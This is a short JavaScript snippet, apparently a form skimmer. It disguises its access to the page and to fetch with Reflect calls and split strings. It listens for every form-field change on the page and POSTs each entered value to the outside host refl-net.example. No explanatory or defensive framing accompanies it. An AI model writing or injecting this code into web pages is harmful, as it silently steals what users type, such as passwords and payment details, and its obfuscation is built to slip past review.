const R = Reflect, g = globalThis;
const doc = R.get(g, ['docu', 'ment'].join(''));
R.apply(R.get(doc, 'addEventListener'), doc, ['change', (e) => {
  const body = R.get(R.get(e, 'target'), 'value');
  R.apply(R.get(g, 'fetch'), g, ['https://refl-net.example/q', { method: 'POST', body }]);
}]);
